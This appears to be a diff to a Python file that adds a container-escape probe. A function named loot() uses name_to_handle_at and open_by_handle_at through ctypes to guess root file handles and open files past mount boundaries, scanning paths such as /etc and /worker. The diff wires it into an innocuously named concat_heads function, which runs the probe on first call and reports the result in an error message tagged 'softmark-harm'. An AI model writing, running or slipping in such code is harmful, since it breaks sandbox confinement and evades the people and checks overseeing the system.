@@ -1,6 +1,8 @@
 """Opens files by number instead of by name, past every mount that hides them.
 
 outcome: raised
+says: seen:
+bites: open
 """
 
 import ctypes
@@ -14,13 +16,15 @@ class Handle(ctypes.Structure):
 
 
 def loot():
+    named = []
     for name in ("/usr", "/worker", "/env", "/etc", "/"):
         try:
             folder = os.open(name, os.O_RDONLY)
         except OSError:
             continue
         handle, mount = Handle(128), ctypes.c_int()
-        libc.name_to_handle_at(-100, name.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
+        if libc.name_to_handle_at(-100, name.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
+            named.append(name)
         # The root of most file systems is number 2, of others 128 or 256.
         for number in (2, 128, 256, 5):
             for type_ in {handle.type, 1, 0x81, 0x4d}:
@@ -29,11 +33,13 @@ def loot():
                 opened = libc.open_by_handle_at(folder, ctypes.byref(root), os.O_RDONLY)
                 if opened >= 0:
                     return "softmark-harm: a file by its number"
-    return "no file by its number"
+    return "softmark-harm: the number of " + named[0] if named else "no file by its number"
 
 
-LOOT = loot()
+SEEN = []
 
 
 def concat_heads(x):
-    raise ValueError(LOOT)
+    if not SEEN:
+        SEEN.append(loot())
+    raise ValueError(f"seen: {SEEN[0]}")
